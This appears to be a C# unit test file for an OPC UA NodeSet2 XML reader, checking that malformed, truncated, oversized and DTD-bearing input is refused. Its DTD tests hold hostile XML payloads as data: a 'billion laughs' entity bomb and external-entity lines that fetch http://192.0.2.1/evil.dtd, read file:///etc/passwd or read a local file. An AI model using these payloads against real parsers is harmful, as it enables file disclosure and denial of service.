namespace OpcPortal.Ua.NodeSets;

public sealed class NodeSet2ReaderRefusalTests
{
    private const int FirstNodeLine = 9;

    [Theory]
    [InlineData("""<UAObject BrowseName="1:A" />""", "NodeId")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" />""", "BrowseName")]
    [InlineData("""<UAObject NodeId="ns=1;i=x" BrowseName="1:A" />""", "ns=1;i=x")]
    [InlineData("""<UAObject NodeId="ns=2;i=1" BrowseName="1:A" />""", "Namespace index 2")]
    [InlineData("""<UAObject NodeId="i=0" BrowseName="1:A" />""", "null NodeId")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" BrowseName="2:A" />""", "namespace index 2")]
    [InlineData("""<UAObject NodeId="Unknown" BrowseName="1:A" />""", "nor an alias")]
    [InlineData("""<UAObject NodeId="ns=1;i=4294967296" BrowseName="1:A" />""", "4294967296")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A" EventNotifier="256" />""", "256")]
    [InlineData("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A" ValueRank="1e2" />""", "1e2")]
    [InlineData("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A" ValueRank="-4" />""", "-4")]
    [InlineData("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A" ArrayDimensions="1,,2" />""", "UInt32")]
    [InlineData("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A" Historizing="yes" />""", "yes")]
    [InlineData("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A" DataType="Int99" />""", "Int99")]
    [InlineData("""<UAThing NodeId="ns=1;i=1" BrowseName="1:A" />""", "UAThing")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A"><References><Reference>i=1</Reference></References></UAObject>""", "ReferenceType")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A"><References><Reference ReferenceType="i=1">svr=1;i=1</Reference></References></UAObject>""", "Server index 1")]
    [InlineData("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A"><DisplayName>A</UAObject>""", "DisplayName")]
    [InlineData("stray text", "Text")]
    public void A_mistake_is_told_with_its_line_and_what_is_wrong(string node, string expected)
    {
        var error = NodeSetXml.Refused(() => NodeSetXml.Read(node));

        Assert.Equal(FirstNodeLine, error.Line);
        Assert.True(error.Column > 0);
        Assert.Contains(expected, error.Reason, StringComparison.OrdinalIgnoreCase);
        Assert.StartsWith($"test.xml({FirstNodeLine},", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_NodeId_that_stands_twice_is_refused_at_its_second_place()
    {
        var error = NodeSetXml.Refused(() => NodeSetXml.Read("""
            <UAObject NodeId="ns=1;i=1" BrowseName="1:A" />
            <UAObject NodeId="ns=1;i=1" BrowseName="1:B" />
            """));

        Assert.Equal(FirstNodeLine + 1, error.Line);
    }

    [Fact]
    public void Entities_that_grow_are_refused_before_they_do()
    {
        var laughs = """
            <!DOCTYPE lolz [ <!ENTITY a "ha"> <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"> <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"> ]>
            <UANodeSet xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd"><Models><Model ModelUri="&c;" /></Models></UANodeSet>
            """;

        var error = NodeSetXml.Refused(() => NodeSetXml.ReadDocument(laughs));

        Assert.Equal(1, error.Line);
        Assert.Contains("DTD", error.Reason, StringComparison.Ordinal);
    }

    // Attack class 30: there is no DTD in a NodeSet, whatever it holds and wherever it is.
    [Theory]
    [InlineData("""<!DOCTYPE UANodeSet>""")]
    [InlineData("""<!DOCTYPE UANodeSet [ ]>""")]
    [InlineData("""<!DOCTYPE UANodeSet SYSTEM "http://192.0.2.1/evil.dtd">""")]
    [InlineData("""<!DOCTYPE UANodeSet PUBLIC "-//x//y" "file:///etc/passwd">""")]
    [InlineData("""<!DOCTYPE UANodeSet [ <!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p; ]>""")]
    [InlineData("""<!DOCTYPE UANodeSet [ <!ATTLIST UANodeSet LastModified CDATA "2020-01-01T00:00:00Z"> ]>""")]
    public void A_DTD_is_refused_before_anything_is_read(string dtd)
    {
        var document = NodeSetXml.Document("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A" />""");
        Assert.Single(NodeSetXml.ReadDocument(document).Nodes);
        var start = document.IndexOf("<UANodeSet", StringComparison.Ordinal);
        var error = NodeSetXml.Refused(() => NodeSetXml.ReadDocument(document.Insert(start, dtd)));
        Assert.Contains("DTD", error.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void An_entity_that_is_not_declared_is_refused() =>
        NodeSetXml.Refused(() => NodeSetXml.Read("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A"><DisplayName>&e;</DisplayName></UAObject>"""));

    [Fact]
    public void An_external_entity_is_never_fetched()
    {
        var secret = Path.GetTempFileName();
        try
        {
            File.WriteAllText(secret, "secret");
            var document = $"""<!DOCTYPE x [ <!ENTITY e SYSTEM "file://{secret}"> ]><UANodeSet xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd">&e;</UANodeSet>""";

            var error = NodeSetXml.Refused(() => NodeSetXml.ReadDocument(document));

            Assert.DoesNotContain("secret", error.Reason, StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Fact]
    public void A_document_cut_off_anywhere_is_refused_with_a_line()
    {
        var whole = NodeSetXml.Document("""<UAVariable NodeId="ns=1;i=1" BrowseName="1:A"><Value><uax:Int32>1</uax:Int32></Value></UAVariable>""").TrimEnd();
        Assert.Single(NodeSetXml.ReadDocument(whole).Nodes);
        for (var length = 1; length < whole.Length; length++)
        {
            var error = NodeSetXml.Refused(() => NodeSetXml.ReadDocument(whole[..length]));
            Assert.True(error.Line > 0, $"cut after {length}: {error.Message}");
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("not xml")]
    [InlineData("<UANodeSet/>")]
    [InlineData("""<html xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd"/>""")]
    public void What_is_no_NodeSet_is_refused(string document) => NodeSetXml.Refused(() => NodeSetXml.ReadDocument(document));

    [Fact]
    public void Limits_on_nodes_depth_text_elements_and_size_hold_at_their_edge()
    {
        const string Two = """<UAObject NodeId="ns=1;i=1" BrowseName="1:A" /><UAObject NodeId="ns=1;i=2" BrowseName="1:B" />""";
        Holds(Two, new NodeSetLimits { MaxNodes = 2 }, new NodeSetLimits { MaxNodes = 1 });

        // Depth: UANodeSet 0, UAVariable 1, Value 2, String 3.
        const string Nested = """<UAVariable NodeId="ns=1;i=1" BrowseName="1:A"><Value><uax:String>12345678901234567890123</uax:String></Value></UAVariable>""";
        Holds(Nested, new NodeSetLimits { MaxDepth = 3 }, new NodeSetLimits { MaxDepth = 2 });
        Holds(Nested, new NodeSetLimits { MaxElementsPerNode = 3 }, new NodeSetLimits { MaxElementsPerNode = 2 });
        // The text has 23 characters, but the longest of the document is the URI of UANodeSet's required model.
        Holds(Nested, new NodeSetLimits { MaxTextLength = 28 }, new NodeSetLimits { MaxTextLength = 22 });
        Holds(Nested, new NodeSetLimits { MaxCharacters = 10_000 }, new NodeSetLimits { MaxCharacters = 500 });

        static void Holds(string nodes, NodeSetLimits enough, NodeSetLimits tooFew)
        {
            NodeSetXml.Read(nodes, new NodeSetReaderOptions { Limits = enough });
            NodeSetXml.Refused(() => NodeSetXml.Read(nodes, new NodeSetReaderOptions { Limits = tooFew }));
        }
    }
}
